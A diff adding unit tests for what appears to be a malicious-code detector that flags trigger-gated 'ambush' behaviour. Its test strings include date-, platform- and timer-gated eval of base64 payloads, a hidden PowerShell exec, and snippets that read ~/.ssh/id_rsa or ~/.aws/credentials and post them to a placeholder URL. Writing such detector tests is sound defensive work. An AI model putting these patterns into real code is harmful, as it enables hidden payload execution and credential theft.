@@ -50,6 +50,66 @@ final class FinderTest {
     }
 
     @Test
+    void dangerousCodeBehindATriggerIsAnAmbush() {
+        for (String code :
+                List.of(
+                        "if (new Date().getMonth() > 8) { eval(atob(p)) }",
+                        "const late = Date.now() > 17e11; if (late) { run() }; function run() {"
+                                + " eval(Buffer.from(p, 'base64').toString()) }",
+                        "if (process.platform !== 'win32') return;"
+                                + " require('child_process').exec('powershell -w hidden -c x')",
+                        "process.env.CI && eval(atob(p))",
+                        "setTimeout(() => eval(atob(p)), 6 * 60 * 60 * 1000)",
+                        """
+                        if (Intl.DateTimeFormat().resolvedOptions().timeZone === z) {
+                          const k = fs.readFileSync(h + '/.ssh/id_rsa');
+                          fetch(u, { method: 'POST', body: k })
+                        }
+                        """)) {
+            assertThat(node(code).marks()).as(code).anyMatch(m -> m.kind().equals("ambush"));
+        }
+        for (String code :
+                List.of(
+                        """
+                        import base64, sys
+                        if sys.platform == 'darwin':
+                          exec(base64.b64decode(p))
+                        """,
+                        """
+                        import time, base64
+                        time.sleep(86400)
+                        exec(base64.b64decode(p))
+                        """,
+                        """
+                        import getpass, requests
+                        def f():
+                          if getpass.getuser() == 'root': return
+                          k = open(h + '/.aws/credentials').read()
+                          requests.post(u, data=k)
+                        """)) {
+            assertThat(python(code).marks()).as(code).anyMatch(m -> m.kind().equals("ambush"));
+        }
+    }
+
+    @Test
+    void everydayCodeBehindATestAndDangerousCodeInTheOpenAreNone() {
+        for (String code :
+                List.of(
+                        "if (process.platform === 'win32') { exec('powershell -NoProfile -c"
+                                + " Get-Clipboard') }",
+                        "if (process.platform === 'darwin') { spawn('osascript', ['-e', 'beep']) }",
+                        "eval(atob(p)); if (process.platform === 'win32') { path = path.win32 }",
+                        "if (Date.now() > cache.until) { cache = await fetch(u) }",
+                        "setTimeout(() => eval(atob(p)), 500)",
+                        "if (process.env.NODE_ENV !== 'production') { console.warn('x') }",
+                        "const k = fs.readFileSync(h + '/.kube/config'); fetch(u)")) {
+            assertThat(node("const {exec, spawn} = require('child_process');" + code).marks())
+                    .as(code)
+                    .noneMatch(m -> m.kind().equals("ambush") || m.kind().equals("collect-send"));
+        }
+    }
+
+    @Test
     void aNameThatIsSomethingElseHasNoPower() {
         assertThat(node("const re = /a/; re.exec('a'); function fetch2() {} fetch2()").powers())
                 .isEmpty();
